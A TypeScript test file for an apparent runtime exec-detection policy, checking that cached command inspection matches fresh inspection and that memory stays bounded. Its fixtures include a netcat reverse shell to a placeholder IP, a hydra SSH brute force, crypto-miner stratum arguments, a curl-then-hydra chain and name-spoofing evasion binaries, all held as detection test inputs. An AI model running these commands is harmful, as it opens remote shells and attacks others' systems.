/** What is remembered of command lines and programs changes no answer, whatever comes in which order. */

import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import t from 'tap'
import { loadToolCatalogue } from '../../src/adapters/tool-catalogue-file.js'
import { CommandMemory } from '../../src/policy/command-memory.js'
import { createExecInspector, type ExecFacts, inspectExec } from '../../src/policy/index.js'
import { createHarmlessTest } from '../../src/policy/plain-program.js'
import { analyseExec } from '../../src/policy/tool-inspection.js'
import { policyOf } from '../support/policies.js'
import { assertProperty, fc } from '../support/properties.js'

const FIXTURES = new URL('../fixtures/runtime/', import.meta.url)
const catalogues = await Promise.all(
  (['quiet', 'default', 'strict'] as const).map(profile =>
    loadToolCatalogue(policyOf({ allow: [], runtime: { tools: { profile } } }).runtime),
  ),
)

/** Each has a circumstance that changes what is said of it: image, parent, links, probe, the way in. */
const COMMANDS: readonly (readonly [string, string])[] = [
  ['/usr/bin/hydra', ''],
  ['/usr/bin/hydra', '-l root -P x ssh://h'],
  ['/bin/trident', ''],
  ['/proc/self/fd/6', 'init'],
  ['/proc/self/fd/6', '-o stratum+tcp://p:1'],
  ['/usr/bin/true', ''],
  ['/usr/bin/true', '--donate-level=1'],
  ['/bin/nc', '-e sh 1.2.3.4 9'],
  ['/bin/nc', '-z db 5432'],
  ['/bin/tcpdump', ''],
  ['/usr/bin/gcc', 'x.c'],
  ['/bin/sh', '-c "curl http://h/nmap; hydra"'],
  ['/usr/bin/apt', 'install nmap'],
  ['/x/y', `${'z'.repeat(700)} stratum+tcp://p:1`],
  ['/x/y', 'z'.repeat(700)],
]
const LONG_IMAGE = `${'x/'.repeat(600)}ory/hydra`

function facts(): fc.Arbitrary<ExecFacts> {
  return fc
    .record({
      command: fc.constantFrom(...COMMANDS),
      parentBinary: fc.constantFrom(undefined, '/usr/bin/runc', '/bin/sh'),
      hardLinks: fc.constantFrom(undefined, 0, 1),
      isExecProbe: fc.boolean(),
      isInInitTree: fc.constantFrom(undefined, true, false),
      image: fc.constantFrom(
        undefined,
        'docker.io/oryd/hydra:v2',
        'netapp/trident:1',
        'docker.io/library/redis',
        LONG_IMAGE,
      ),
    })
    .map(({ command: [binary, args], ...rest }) => ({ binary, arguments: args === '' ? undefined : args, ...rest }))
}

t.test('a memory of command lines says what a fresh look says, over any sequence of processes', async t => {
  for (const catalogue of catalogues) {
    assertProperty(
      fc.property(fc.array(facts(), { minLength: 50, maxLength: 300, size: 'max' }), all => {
        const inspect = createExecInspector(catalogue)
        for (const each of all) assert.deepEqual(inspect(each), inspectExec(catalogue, each))
      }),
      { numRuns: 40, endOnFailure: true },
    )
  }
  t.pass()
})

t.test('the same process gets the same sightings, by the same object', async t => {
  const catalogue = await loadToolCatalogue(policyOf({ allow: [] }).runtime)
  const inspect = createExecInspector(catalogue)
  const nc: ExecFacts = {
    binary: '/bin/nc',
    arguments: '-e sh 1.2.3.4 9',
    parentBinary: '/bin/sh',
    hardLinks: 1,
    isExecProbe: false,
    isInInitTree: true,
    image: 'docker.io/library/redis',
  }
  inspect(nc)
  const first = inspect({ ...nc })
  t.ok(first.length > 0)
  t.equal(inspect({ ...nc }), first)
  t.equal(inspect({ ...nc, image: 'docker.io/library/other' }), first, 'an image that plays no part')
})

t.test('a program is called plain only when a whole look finds nothing, whatever its arguments', async t => {
  const names = readFileSync(new URL('debian-commands.txt', FIXTURES), 'utf8').trim().split('\n')
  const cases: readonly { readonly process: { readonly binary: string; readonly arguments?: string } }[] = JSON.parse(
    readFileSync(new URL('evasion-cases.json', FIXTURES), 'utf8'),
  )
  const binaries = [
    ...names.map(name => `/usr/bin/${name}`),
    ...cases.map(({ process }) => process.binary),
    ...['/x/command', '/dev/fd/3', '/app/server', '/usr/bin/xmrig (deleted)', '/a/..', '', 'memfd:x', '/x/Python3.12'],
    ...['/x/\u0441url', '/x/PIP', '/x/..nmap', `/x/${'y'.repeat(600)}`, '/x/busybox-musl', '/lib/ld-linux.so.2'],
  ]
  const args = [
    '',
    '-c "nmap -sS 10.0.0.1"',
    'install nmap',
    'http://h/nmap nmap',
    '-v nmap',
    '-m sqlmap /x/nmap',
    '/usr/bin/nmap 10.0.0.1',
    '-o stratum+tcp://p:1',
    '-e /bin/sh 1.2.3.4 9',
    ...cases.map(({ process }) => process.arguments ?? ''),
  ]
  const pairs = [
    ...COMMANDS,
    ...binaries.flatMap(binary =>
      (binary.startsWith('/usr/bin/') ? args.slice(0, 9) : args).map(each => [binary, each] as const),
    ),
  ]
  for (const catalogue of catalogues) {
    const isHarmless = createHarmlessTest(catalogue)
    const harmless = pairs.filter(([binary, each]) => isHarmless(binary, each))
    t.ok(harmless.length > names.length, 'most programs of a stock machine are plain')
    const wrong = harmless.filter(([binary, each]) => analyseExec(catalogue, binary, each) !== undefined)
    t.same(wrong, [])
  }
})

t.test('command lines are told apart by both strings, and forgotten within bounds', async t => {
  const memory = new CommandMemory<number>(100, 131_072)
  const long = 'x'.repeat(2_000)
  memory.remember('/a', 'b', 1)
  memory.remember('/a', '', 2)
  memory.remember('/ab', '', 3)
  memory.remember('/a', long, 4)
  memory.remember('/b', long, 5)
  memory.remember('/a', 'y'.repeat(200_000), 6)
  const recalled = [
    ['/a', 'b'],
    ['/a', ''],
    ['/ab', ''],
    ['/a', long],
    ['/b', long],
    ['', '/ab'],
    ['/a', 'y'.repeat(200_000)],
  ].map(([binary = '', args = '']) => memory.recall(binary, args))
  t.same(recalled, [1, 2, 3, 4, 5, undefined, undefined])
  for (let index = 0; index < 100; index += 1) memory.remember('/c', `${index}`, index)
  t.equal(memory.recall('/a', 'b'), undefined)
  t.equal(memory.recall('/c', '99'), 99)
  for (let index = 0; index < 100; index += 1) memory.remember('/c', `${index} ${long}`, index)
  t.equal(memory.recall('/a', long), undefined)
  t.equal(memory.recall('/c', `99 ${long}`), 99)
})
